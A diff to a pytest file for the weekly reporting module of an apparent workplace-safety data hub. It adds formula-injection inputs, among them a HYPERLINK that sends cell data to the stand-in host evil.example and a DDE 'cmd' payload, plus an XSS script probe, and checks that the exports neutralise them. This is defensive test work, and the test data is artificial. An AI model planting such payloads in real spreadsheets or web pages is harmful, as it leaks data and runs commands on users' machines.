@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from safety_hub.reporting import archive
 from safety_hub.reporting.archive import ReportWeek
-from safety_hub.reporting.cells import FORMULA_TRIGGERS, neutralise
+from safety_hub.reporting.cells import FORMULA_TRIGGERS, clean_text, neutralise
 from safety_hub.reporting.figures import WeeklyFigures
 from safety_hub.reporting.progress import hazard_progress, measure_progress
 from safety_hub.reporting.workbook import (HAZARD_COLUMNS, HEADER_ROW, MEASURE_COLUMNS, SHEET_HAZARDS, SHEET_MEASURES,
@@ -76,6 +76,7 @@ def test_reports_are_archived_per_week(tmp_path, monkeypatch):
 HOSTILE = [
     "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3",
     "@SUM(1,2)", "\t=1+1", "\r=1+1", "=天津", "-", "=",
+    "＝1+1", "＋SUM(A1)", "－2", "＠SUM(1)", " =1", "\u3000=1", "\u200b=HYPERLINK(\"x\")", "\ufeff+1",
 ]
 
 
@@ -86,7 +87,7 @@ def test_hostile_text_is_neutralised(text):
     assert not out.startswith(FORMULA_TRIGGERS)
 
 
-@pytest.mark.parametrize("text", ["天津港保税区", "安全阀未定期校验", "a=b", "1+1", "(津保)应急罚[2023]k-39号", "", " =1"])
+@pytest.mark.parametrize("text", ["天津港保税区", "安全阀未定期校验", "a=b", "1+1", "(津保)应急罚[2023]k-39号", "", " 1=1", "A－1"])
 def test_plain_text_is_unchanged(text):
     assert neutralise(text) == text
 
@@ -108,7 +109,31 @@ def test_decimals_numpy_and_missing_values():
 def test_no_text_survives_as_a_formula(text):
     out = neutralise(text)
     assert isinstance(out, str) and not out.startswith(FORMULA_TRIGGERS)
-    assert out in (text, "'" + text)
+    assert out in (clean_text(text), "'" + clean_text(text))
+
+
+# Every class of code point a warehouse string can hold: C0 and C1 controls, DEL, spaces, zero-width,
+# bidi controls, private use, noncharacters, CJK, astral (emoji, CJK extension B), combining marks.
+EVERY_CLASS = "".join(map(chr, range(0x00, 0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xa0))) + \
+    "\u00a0\u2028\u2029\u200b\u200e\u202e\u2066\ufeff\ue000\ufdd0\ufffe\uffff\u0301天津\U0001f525\U00020000"
+
+
+@pytest.mark.parametrize("start", range(0, len(EVERY_CLASS), 8))
+def test_a_workbook_holds_any_warehouse_string(start):
+    text = EVERY_CLASS[start:] + EVERY_CLASS[:start]
+    hazard = {**HAZARD, "org_name": text, "description": "=" + text, "measures": text * 3000, "owner": text[::-1]}
+    book = load_workbook(io.BytesIO(workbook_bytes(_figures([hazard], [{**MEASURE, "title": text}]))))
+    assert book[SHEET_HAZARDS].max_row > HEADER_ROW
+
+
+def test_the_html_report_holds_any_warehouse_string():
+    from safety_hub.reporting.weekly import render_weekly_report
+
+    fig = _figures([{**HAZARD, "org_name": EVERY_CLASS + "<script>alert(1)</script>", "description": EVERY_CLASS}],
+                   [{**MEASURE, "title": EVERY_CLASS}])
+    page = render_weekly_report(fig)
+    assert "<script>alert(1)</script>" not in page
+    page.encode("utf-8")  # no lone surrogate or other unencodable text
 
 
 # --- progress flags --------------------------------------------------------------------------
